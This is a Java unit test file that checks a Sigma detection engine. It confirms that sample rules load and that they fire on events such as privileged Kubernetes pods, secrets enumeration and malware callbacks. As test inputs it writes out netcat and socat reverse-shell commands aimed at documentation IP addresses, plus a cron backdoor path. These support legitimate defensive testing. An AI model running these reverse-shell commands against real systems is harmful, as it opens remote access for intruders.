package dev.bulwark.sigma;

import static dev.bulwark.sigma.SigmaTestSupport.audit;
import static dev.bulwark.sigma.SigmaTestSupport.connect;
import static dev.bulwark.sigma.SigmaTestSupport.exec;
import static dev.bulwark.sigma.SigmaTestSupport.file;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import dev.bulwark.samples.Samples;
import dev.bulwark.schemas.PodSpecFacts;
import dev.bulwark.schemas.SecurityEvent;

/** The SigmaHQ sample rules of bulwark-samples ({@code sigma/}): all load, and real ones fire on realistic events. */
class SigmaSampleRulesTest {

    static final Path SAMPLES = Samples.path("sigma");

    private static LoadReport report;
    private static CompiledRuleSet rules;

    @BeforeAll
    static void load() {
        report = SigmaEngine.create().load(List.of(SAMPLES.resolve("rules")));
        rules = report.ruleSet();
    }

    @Test
    void shouldLoadEverySampleRuleWithoutSkipsOrWarnings() {
        assertThat(Files.isDirectory(SAMPLES)).as("the sigma samples").isTrue();
        assertThat(report.skipped()).isEmpty();
        assertThat(report.warnings()).isEmpty();
        assertThat(report.loaded()).hasSize(30);
        assertThat(rules.unfilteredRules()).containsOnly(
                Map.entry("linux_process_creation", 0), Map.entry("linux_file_event", 0),
                Map.entry("linux_network_connection", 0), Map.entry("kubernetes_audit", 0));
    }

    @Test
    void shouldParseEveryCorrelationExample() {
        ParsedRules parsed = new SigmaRuleLoader().parsePath(SAMPLES.resolve("spec_correlation_examples"));
        assertThat(parsed.failures()).isEmpty();
        assertThat(parsed.correlations()).extracting(c -> c.type().sigmaName()).containsExactlyInAnyOrder(
                "event_count", "event_count", "value_count", "temporal_ordered", "value_sum", "value_avg", "temporal",
                "value_percentile");
    }

    @Test
    void shouldFireNetcatReverseShellOnExecEvent() {
        SecurityEvent event = exec("/usr/bin/nc", "nc 203.0.113.10 4444 -e /bin/sh", "/bin/bash", "bash");
        List<RuleMatch> matches = rules.match(event);
        assertThat(matches).extracting(m -> m.rule().title()).containsExactly("Potential Netcat Reverse Shell Execution");
        RuleMatch match = matches.get(0);
        assertThat(match.rule().level()).isEqualTo("high");
        assertThat(match.rule().attackTechniques()).containsExactly("T1059");
        assertThat(match.rule().attackTactics()).containsExactly("execution");
        assertThat(match.selections()).containsExactly("selection_nc", "selection_flags", "selection_shell");
        assertThat(match.evidence()).containsEntry("process.executable", "/usr/bin/nc")
                .containsEntry("process.command_line", "nc 203.0.113.10 4444 -e /bin/sh");
        assertThat(match.standalone()).isTrue();
    }

    @Test
    void shouldNotFireNetcatRuleOnNearMisses() {
        assertThat(rules.match(exec("/usr/bin/nc", "nc -lvnp 4444"))).isEmpty();
        assertThat(rules.match(exec("/usr/bin/socat", "socat tcp:203.0.113.10:4444 exec:/bin/sh -e x"))).isEmpty();
    }

    @Test
    void shouldFirePrivilegedPodCreationOnAuditEvent() {
        SecurityEvent event = audit("create", "pods", null, "payments", 201,
                PodSpecFacts.newBuilder().setPrivileged(true).setPrivilegedContainers(List.of("app")).build());
        assertThat(rules.match(event)).extracting(m -> m.rule().title()).containsExactly("Privileged Container Deployed");
        assertThat(rules.match(event).get(0).evidence()).containsEntry("kubernetes_audit.verb", "create")
                .containsEntry("kubernetes.pod_spec.capabilities_added | kubernetes.pod_spec.privileged_containers | "
                        + "kubernetes.pod_spec.host_pid | kubernetes.pod_spec.host_network | "
                        + "kubernetes.pod_spec.host_ipc", "app");
    }

    @Test
    void shouldNotFirePrivilegedPodRuleOnNearMisses() {
        assertThat(rules.match(audit("create", "pods", null, "payments", 201, PodSpecFacts.newBuilder().setImages(List.of("nginx:1.27")).build())))
                .isEmpty();
        assertThat(rules.match(audit("get", "pods", null, "payments", 200, PodSpecFacts.newBuilder().setPrivileged(true).setPrivilegedContainers(List.of("app")).build())))
                .isEmpty();
    }

    @Test
    void shouldFireHostPathAndHostNetworkRules() {
        SecurityEvent event = audit("create", "pods", null, "payments", 201,
                PodSpecFacts.newBuilder().setHostPathMounts(List.of("/", "/var/run/docker.sock")).setHostNetwork(true).build());
        assertThat(rules.match(event)).extracting(m -> m.rule().title()).containsExactlyInAnyOrder(
                "Container With A hostPath Mount Created", "Privileged Container Deployed");
    }

    @Test
    void shouldFireExecIntoPodAndSystemNamespaceRules() {
        assertThat(rules.match(audit("create", "pods", "exec", "kube-system", 101, null)))
                .extracting(m -> m.rule().title()).containsExactlyInAnyOrder(
                        "Potential Remote Command Execution In Pod Container", "Creation Of Pod In System Namespace");
        assertThat(rules.match(audit("get", "pods", "log", "default", 200, null))).isEmpty();
    }

    @Test
    void shouldFireUnauthorizedAccessOnForbiddenResponse() {
        assertThat(rules.match(audit("list", "secrets", null, "default", 403, null)))
                .extracting(m -> m.rule().title()).containsExactlyInAnyOrder(
                        "Kubernetes Unauthorized or Unauthenticated Access", "Kubernetes Secrets Enumeration");
        assertThat(rules.match(audit("list", "configmaps", null, "default", 200, null))).isEmpty();
    }

    @Test
    void shouldFireMalwareCallbackPortUnlessDestinationIsLocal() {
        assertThat(rules.match(connect("/tmp/x", "203.0.113.77", 4444))).extracting(m -> m.rule().title())
                .containsExactly("Potentially Suspicious Malware Callback Communication - Linux");
        assertThat(rules.match(connect("/tmp/x", "10.1.2.3", 4444))).isEmpty();
        assertThat(rules.match(connect("/tmp/x", "fd00::5", 4444))).isEmpty();
        assertThat(rules.match(connect("/tmp/x", "203.0.113.77", 443))).isEmpty();
    }

    @Test
    void shouldFireBackConnectShellUnlessLoopback() {
        assertThat(rules.match(connect("/bin/bash", "198.51.100.2", 443))).extracting(m -> m.rule().level())
                .containsExactly("critical");
        assertThat(rules.match(connect("/bin/bash", "127.0.0.1", 443))).isEmpty();
    }

    @Test
    void shouldFireCronFileRuleUnlessOptionalFilterMatches() {
        assertThat(rules.match(file("/usr/bin/vi", "/etc/cron.d/backdoor"))).extracting(m -> m.rule().title())
                .containsExactly("New Cron File Created");
        assertThat(rules.match(file("/usr/bin/dpkg", "/etc/cron.daily/dpkg"))).isEmpty();
    }

    @Test
    void shouldFireSensitiveFileChangeWithWildcardInsideContains() {
        SecurityEvent event = exec("/usr/bin/vim", "vim /etc/ssh/sshd.conf");
        assertThat(rules.match(event)).extracting(m -> m.rule().title())
                .contains("Potential Suspicious Change To Sensitive/Critical Files");
        assertThat(rules.match(exec("/usr/bin/vim", "vim notes.txt"))).isEmpty();
    }

    @Test
    void shouldNotRouteAuditExecEventsToProcessRules() {
        SecurityEvent auditExec = SigmaTestSupport.base("k8s-audit", List.of("iam", "process"), List.of("start"))
                .setKubernetesAudit(dev.bulwark.schemas.KubernetesAudit.newBuilder().setVerb("create")
                        .setResource("pods").setSubresource("exec").build())
                .setAttributes(Map.of("k8s.audit.exec.command", "nc 203.0.113.10 4444 -e /bin/sh"))
                .build();
        assertThat(rules.match(auditExec)).extracting(m -> m.rule().title())
                .containsExactly("Potential Remote Command Execution In Pod Container");
    }
}
